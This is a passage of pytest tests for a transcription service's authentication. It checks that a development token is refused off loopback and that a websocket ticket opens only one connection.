# -- Also: no development token off loopback; tickets open one socket ------------------------------------------

@pytest.mark.parametrize("host", ["0.0.0.0", "192.168.1.20", "::"])
def test_no_development_token_off_loopback(tmp_path: Path, host: str) -> None:
    app = create_app(Settings(data_dir=tmp_path / "data", host=host), transcriber=FakeTranscriber())  # type: ignore[arg-type]
    with pytest.raises(AuthError, match="tokens file"), TestClient(app):
        pass


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1"])
def test_the_development_token_still_serves_loopback(tmp_path: Path, host: str) -> None:
    app = create_app(Settings(data_dir=tmp_path / "data", host=host), transcriber=FakeTranscriber())  # type: ignore[arg-type]
    with TestClient(app):
        assert state_of(app).dev_token


def test_a_ticket_opens_one_socket(client: TestClient) -> None:
    book = TicketBook(b"k" * 32)
    ticket = book.mint(Principal("a", "agent", "A1"), "c1")
    assert book.redeem(ticket, "c1") is not None and book.redeem(ticket, "c1") is None
    issued = client.post("/v1/tickets", json={"call_id": "w1"}, headers=bearer("a1")).json()["ticket"]
    with client.websocket_connect(f"/v1/calls/w1/events?ticket={issued}") as ws:
        ws.close()
    with client.websocket_connect(f"/v1/calls/w1/events?ticket={issued}") as ws:
        events, code = _closed(ws)
    assert code == 4401 and events[0]["code"] == "unauthorized"
